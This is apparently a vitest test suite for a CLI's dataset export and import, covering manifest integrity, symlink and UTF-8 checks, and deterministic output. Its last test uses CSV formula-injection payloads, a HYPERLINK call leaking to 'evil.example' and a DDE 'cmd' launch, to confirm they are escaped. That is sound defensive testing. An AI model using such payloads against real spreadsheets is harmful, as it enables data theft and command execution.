import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { datasetRecordSchema } from '../shared/dataset/dataset-record.ts';
import { datasetManifestSchema } from '../shared/dataset/manifest.ts';
import { buildArgument, buildJudgement, buildTriple, toJsonl } from './factories.ts';
import { cliSandbox } from './support/cli.ts';

const FILES = ['README.md', 'croissant.json', 'decisions.csv', 'gold.jsonl', 'manifest.json', 'sample.json'];

const read = (dir: string) => Object.fromEntries(FILES.map((name) => [name, readFileSync(join(dir, name))]));

describe('export dataset / import dataset on the demo with annotations', () => {
  const demo = cliSandbox();
  const out = join(demo.dir, 'dataset');

  beforeAll(async () => {
    const loaded = await demo.run('demo', '--with-annotations');
    expect(loaded.code, loaded.stderr).toBe(0);
    const exported = await demo.run('export', 'dataset', '--out', 'dataset');
    expect(exported.code, exported.stderr).toBe(0);
  }, 120_000);

  it('writes the six files, the manifest describing the other five', () => {
    expect(readdirSync(out).sort()).toEqual(FILES);
    const manifest = datasetManifestSchema.parse(
      JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')),
    );
    expect(manifest.files.map((file) => file.path)).toEqual(FILES.filter((name) => name !== 'manifest.json'));
  });

  it('writes one record per annotated argument, pseudonymised, with gold, extractors and sample rows', () => {
    const lines = readFileSync(join(out, 'gold.jsonl'), 'utf8').trimEnd().split('\n');
    expect(lines).toHaveLength(50);
    const records = lines.map((line) => datasetRecordSchema.parse(JSON.parse(line)));
    expect(records.every((record) => record.annotations.map((a) => a.annotator).join() === 'A,B')).toBe(true);
    expect(records.some((record) => record.annotations.some((a) => a.name !== undefined))).toBe(false);
    const statuses = records.map((record) => record.gold?.status ?? 'none');
    expect(statuses.filter((status) => status === 'accepted')).toHaveLength(14);
    expect(statuses.filter((status) => status === 'fixed')).toHaveLength(24);
    expect(statuses.filter((status) => status === 'none')).toHaveLength(12);
    const fixed = records.find((record) => record.gold?.status === 'fixed');
    expect(fixed?.gold?.adjudicator).toBe('adjudicator-A');
    expect(fixed?.gold?.decisions.length).toBeGreaterThan(0);
    expect(records.every((record) => record.sample?.version === 1 && record.sample.weight > 1)).toBe(true);
    expect(records[0]?.extractions.map((extraction) => extraction.extractor)).toEqual(['rules']);
    expect(fixed?.extractions[0]?.error_classes?.length).toBeGreaterThan(0);
  });

  it('writes 78 decision rows per record with every source', () => {
    const rows = readFileSync(join(out, 'decisions.csv'), 'utf8').split('\n');
    expect(rows[0]).toBe(
      'argument_id,model,test,stratum,weight,case,factor,ground_truth,annotator_A,annotator_B,gold,extractor_rules',
    );
    expect(rows).toHaveLength(1 + 50 * 78 + 1);
  });

  it('writes a dataset card with its front matter, agreement and TODOs for the study lead', () => {
    const card = readFileSync(join(out, 'README.md'), 'utf8');
    expect(card.startsWith('---\nlicense: "cc-by-4.0"\n')).toBe(true);
    expect(card).toContain('size_categories:\n- n<1K');
    expect(card).toMatch(/\| Cohen's κ \| 0\.\d{3} \| \[0\.\d{3}, 0\.\d{3}\] \|/);
    expect(card).toContain("Annotators' qualifications: **TODO (study lead):**");
  });

  it('gives the same bytes when exported again', async () => {
    const again = await demo.run('export', 'dataset', '--out', 'again');
    expect(again.code, again.stderr).toBe(0);
    expect(read(join(demo.dir, 'again'))).toEqual(read(out));
  });

  it('imports into a fresh database and exports the same files, byte for byte', {
    timeout: 60_000,
  }, async () => {
    const fresh = cliSandbox();
    const imported = await fresh.run('import', 'dataset', out);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toContain('50 record(s) (dataset)');
    const status = JSON.parse((await fresh.run('status', '--json')).stdout);
    expect(status.totals).toMatchObject({ arguments: 50, annotations: 100, gold: 38, extractions: 50 });
    const exported = await fresh.run('export', 'dataset', '--out', 'dataset');
    expect(exported.code, exported.stderr).toBe(0);
    const original = read(out);
    const copy = read(join(fresh.dir, 'dataset'));
    for (const name of FILES) expect(copy[name]?.equals(original[name] ?? Buffer.alloc(0)), name).toBe(true);
    // Importing the same folder again changes nothing.
    const again = await fresh.run('import', 'dataset', out);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stdout).toMatch(/ 0 new, 0 replaced, \d+ unchanged/);
  });

  it('names the accounts with --names and says so on the card', async () => {
    const named = await demo.run(
      'export',
      'dataset',
      '--out',
      'named',
      '--names',
      '--citation',
      '@misc{demo}',
    );
    expect(named.code, named.stderr).toBe(0);
    const first = datasetRecordSchema.parse(
      JSON.parse(readFileSync(join(demo.dir, 'named', 'gold.jsonl'), 'utf8').split('\n')[0] ?? ''),
    );
    expect(first.annotations.map((a) => a.name).sort()).toEqual(['alice', 'bob']);
    const card = readFileSync(join(demo.dir, 'named', 'README.md'), 'utf8');
    expect(card).toContain('named by their accounts');
    expect(card).toContain('```\n@misc{demo}\n```');
  });

  it('refuses a folder whose files differ from the manifest, importing nothing', async () => {
    const copy = cliSandbox();
    const dir = join(copy.dir, 'tampered');
    const exported = await demo.run('export', 'dataset', '--out', dir);
    expect(exported.code, exported.stderr).toBe(0);
    const gold = readFileSync(join(dir, 'gold.jsonl'), 'utf8');
    writeFileSync(join(dir, 'gold.jsonl'), gold.replace('"seconds_spent":', '"seconds_spent": '));
    const refused = await copy.run('import', 'dataset', dir);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('is not the file manifest.json describes');
    expect((await copy.run('status', '--json')).code).not.toBe(0);
  });

  it('refuses a bad record by its line, and imports nothing', async () => {
    const copy = cliSandbox();
    const dir = join(copy.dir, 'broken');
    expect((await demo.run('export', 'dataset', '--out', dir)).code).toBe(0);
    const lines = readFileSync(join(dir, 'gold.jsonl'), 'utf8').split('\n');
    lines[2] = (lines[2] ?? '').replace('"annotator":"B"', '"annotator":"A"');
    writeFileSync(join(dir, 'gold.jsonl'), lines.join('\n'));
    // The manifest is rewritten to match, so the record itself is what is refused.
    const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
    const bytes = readFileSync(join(dir, 'gold.jsonl'));
    for (const file of manifest.files)
      if (file.path === 'gold.jsonl') {
        file.bytes = bytes.length;
        file.sha256 = createHash('sha256').update(bytes).digest('hex');
      }
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
    const refused = await copy.run('import', 'dataset', dir);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/gold\.jsonl:3: annotations\[1\]\.annotator: A appears twice/);
    expect(refused.stderr).toContain('nothing was imported');
  });

  /** A copy of the demo's dataset in a fresh sandbox, and a way to change a file and its manifest entry. */
  async function copyOfDataset(name: string) {
    const copy = cliSandbox();
    const dir = join(copy.dir, name);
    expect((await demo.run('export', 'dataset', '--out', dir)).code).toBe(0);
    const rewrite = (file: string, bytes: Buffer) => {
      writeFileSync(join(dir, file), bytes);
      const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
      for (const entry of manifest.files)
        if (entry.path === file) {
          entry.bytes = bytes.length;
          entry.sha256 = createHash('sha256').update(bytes).digest('hex');
        }
      writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
    };
    return { copy, dir, rewrite };
  }

  it('checks every file the manifest names: a changed decisions.csv or README.md, or a missing croissant.json, refuse it', async () => {
    for (const [file, change] of [
      ['decisions.csv', (text: string) => text.replace('\n', '\nextra,row\n')],
      ['README.md', (text: string) => `${text}\nEdited by hand.\n`],
    ] as const) {
      const { copy, dir } = await copyOfDataset(`changed-${file}`);
      writeFileSync(join(dir, file), change(readFileSync(join(dir, file), 'utf8')));
      const refused = await copy.run('import', 'dataset', dir);
      expect(refused.code, file).toBe(1);
      expect(refused.stderr).toContain(`${join(dir, file)} is not the file manifest.json describes`);
      expect((await copy.run('status', '--json')).code).not.toBe(0);
    }
    const { copy, dir } = await copyOfDataset('missing');
    rmSync(join(dir, 'croissant.json'));
    const missing = await copy.run('import', 'dataset', dir);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain(`${join(dir, 'croissant.json')}: cannot read it`);
    const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
    manifest.files = manifest.files.filter((entry: { path: string }) => entry.path !== 'croissant.json');
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
    const unlisted = await copy.run('import', 'dataset', dir);
    expect(unlisted.stderr).toContain('does not list croissant.json');
  });

  it('refuses a file that is a symbolic link, even to the identical file', async () => {
    const { copy, dir } = await copyOfDataset('linked');
    const outside = join(copy.dir, 'elsewhere.md');
    writeFileSync(outside, readFileSync(join(dir, 'README.md')));
    rmSync(join(dir, 'README.md'));
    symlinkSync(outside, join(dir, 'README.md'));
    const refused = await copy.run('import', 'dataset', dir);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(`${join(dir, 'README.md')} is a symbolic link`);
    expect((await copy.run('status', '--json')).code).not.toBe(0);
  });

  it('accepts a gold.jsonl that starts with a byte order mark', async () => {
    const { copy, dir, rewrite } = await copyOfDataset('bom');
    rewrite(
      'gold.jsonl',
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), readFileSync(join(dir, 'gold.jsonl'))]),
    );
    const imported = await copy.run('import', 'dataset', dir);
    expect(imported.code, imported.stderr).toBe(0);
  });

  it('refuses a gold.jsonl line that is not UTF-8 along with every other bad record, in one pass', async () => {
    const { copy, dir, rewrite } = await copyOfDataset('latin1');
    const lines = readFileSync(join(dir, 'gold.jsonl'), 'utf8').split('\n');
    lines[3] = (lines[3] ?? '').replace('"annotator":"B"', '"annotator":"A"');
    const before = Buffer.from(`${lines.slice(0, 1).join('\n')}\n`);
    const second = Buffer.from(lines[1] ?? '');
    const at = second.indexOf('"text":"') + 8;
    second[at] = 0xff;
    rewrite('gold.jsonl', Buffer.concat([before, second, Buffer.from(`\n${lines.slice(2).join('\n')}`)]));
    const refused = await copy.run('import', 'dataset', dir);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(`gold.jsonl:2: not valid UTF-8 at byte ${before.length + at} `);
    expect(refused.stderr).toMatch(/gold\.jsonl:4: annotations\[1\]\.annotator: A appears twice/);
    expect(refused.stderr).toContain('2 bad records');
  });

  it('refuses an export option that does not apply', async () => {
    const result = await demo.run('export', 'dataset', '--out', 'x', '--extractor', 'rules');
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('--extractor does not apply to export dataset');
  });
});

describe('export dataset: cells a spreadsheet would run', () => {
  it('writes ids and model names that start like a formula with a leading apostrophe in decisions.csv, and as they are in gold.jsonl', async () => {
    const sandbox = cliSandbox();
    const model = '=HYPERLINK("http://evil.example/?leak","x")';
    const argumentId = "=cmd|' /C calc'!A0";
    const run = async (...args: string[]) => {
      const result = await sandbox.run(...args);
      expect(result.code, result.stderr).toBe(0);
    };
    await run('import', 'triples', sandbox.file('t.jsonl', toJsonl([buildTriple()])));
    await run(
      'import',
      'arguments',
      sandbox.file('a.jsonl', toJsonl([buildArgument({ id: argumentId, model })])),
    );
    await run(
      'import',
      'gold',
      sandbox.file('g.jsonl', toJsonl([{ argument_id: argumentId, ...buildJudgement() }])),
    );
    await run('export', 'dataset', '--out', 'out');
    const csv = readFileSync(join(sandbox.dir, 'out', 'decisions.csv'), 'utf8');
    const row = csv.split('\n')[1] ?? '';
    expect(
      row.startsWith(`"'=cmd|' /C calc'!A0","'=HYPERLINK(""http://evil.example/?leak"",""x"")",1,`),
    ).toBe(true);
    for (const line of csv.split('\n')) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
    const record = JSON.parse(
      readFileSync(join(sandbox.dir, 'out', 'gold.jsonl'), 'utf8').split('\n')[0] ?? '{}',
    );
    expect(record).toMatchObject({ argument_id: argumentId, model });
  });
});
